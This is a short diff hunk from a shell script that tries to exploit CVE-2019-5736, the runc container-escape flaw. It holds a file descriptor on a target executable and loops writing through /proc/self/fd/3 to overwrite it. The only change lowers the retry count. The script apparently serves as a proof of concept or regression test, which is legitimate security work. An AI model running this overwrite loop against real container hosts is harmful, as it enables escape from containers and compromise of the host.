@@ -18,7 +18,7 @@ while :; do
     command exec 3<"$e" 2>/dev/null || continue
     echo "attack: holding $e"
     i=0
-    while [ $i -lt 100000 ]; do
+    while [ $i -lt 30000 ]; do
       if { echo 'ESCAPED CVE-2019-5736' > /proc/self/fd/3; } 2>/dev/null; then
         echo "attack: overwrote $e"
         exit 0
